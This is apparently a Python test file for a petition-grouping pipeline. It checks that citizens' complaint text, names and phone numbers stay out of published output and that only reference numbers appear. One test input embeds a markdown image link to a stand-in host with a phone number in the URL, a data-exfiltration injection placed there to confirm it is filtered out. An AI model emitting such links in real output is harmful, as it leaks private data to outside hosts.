"""The flow of petitions: matters that many brought, by numbers and counts; no citizen's word reaches Prefect (P27)."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from flows.edge import NotForArtifacts
from flows.ingest import ingest
from flows.petitions import petitions, publish_petitions
from nistaran.steps.petitions import Petition
from tests.files import row, write_csv
from tests.flows.test_main_job import PHONE, SECRET, everything_prefect_knows

MATTER = "ग्राम बेलवा के पूरब टोला का ट्रांसफार्मर 3 तारीख से जला पड़ा है, 40 घर अंधेरे में हैं, जेई कहते हैं स्टोर में नहीं है, बदलवाया जाए"
PETITION = Petition(
    numbers=[f"SDR-2026-{n:07d}" for n in range(1, 14)],
    people=12,
    unknown=1,
    departments={"": 13},
    channels={"IGRS": 13},
    places=1,
    first=date(2026, 11, 1),
    last=date(2026, 11, 9),
)


@pytest.mark.promise("P27")
def test_a_petition_is_linked_once_and_told_without_a_word_of_it(home: Path) -> None:
    hostile = f"{MATTER} {SECRET} ![x](http://example.invalid/{PHONE})"
    rows = [
        row(text=f"{hostile} प्रार्थी {n}", name=f"{SECRET} {n}", phone=f"97{n:08d}", reference=f"p{n}") for n in range(6)
    ]
    write_csv(home / "inbox" / "a.csv", rows)
    ingest()
    first = petitions()
    assert (first["cases"], first["groups"], first["grouped"], first["petitions"]) == (6, 1, 6, 1)
    assert first["linked"] >= 5
    assert petitions(days=3650)["linked"] == 0
    assert petitions(least=7)["petitions"] == 0
    told = everything_prefect_knows()
    assert "SDR-2026-0000001" in told
    for secret in (SECRET, PHONE, "example.invalid", "ट्रांसफार्मर"):
        assert secret not in told


def test_an_empty_house_has_none(home: Path) -> None:
    assert set(petitions().values()) == {0}


def test_only_numbers_stand_in_the_artifact(home: Path) -> None:
    with pytest.raises(NotForArtifacts):
        publish_petitions([replace(PETITION, numbers=["मेरा नाम राम"])])
